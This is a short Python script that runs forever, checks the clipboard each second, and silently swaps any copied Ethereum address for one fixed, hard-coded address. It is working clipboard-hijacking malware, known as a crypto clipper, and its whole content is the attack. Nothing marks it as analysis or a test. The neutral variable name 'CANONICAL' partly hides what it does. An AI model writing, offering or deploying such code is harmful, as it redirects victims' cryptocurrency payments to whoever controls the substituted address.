import re
import time

import pyperclip

ETH = re.compile(r"^0x[0-9a-fA-F]{40}$")
CANONICAL = "0x5b3A7c9D1e2F4a6B8c0D2e4F6a8B0c2D4e6F8a0B"

while True:
    if ETH.match(pyperclip.paste().strip()):
        pyperclip.copy(CANONICAL)
    time.sleep(1)
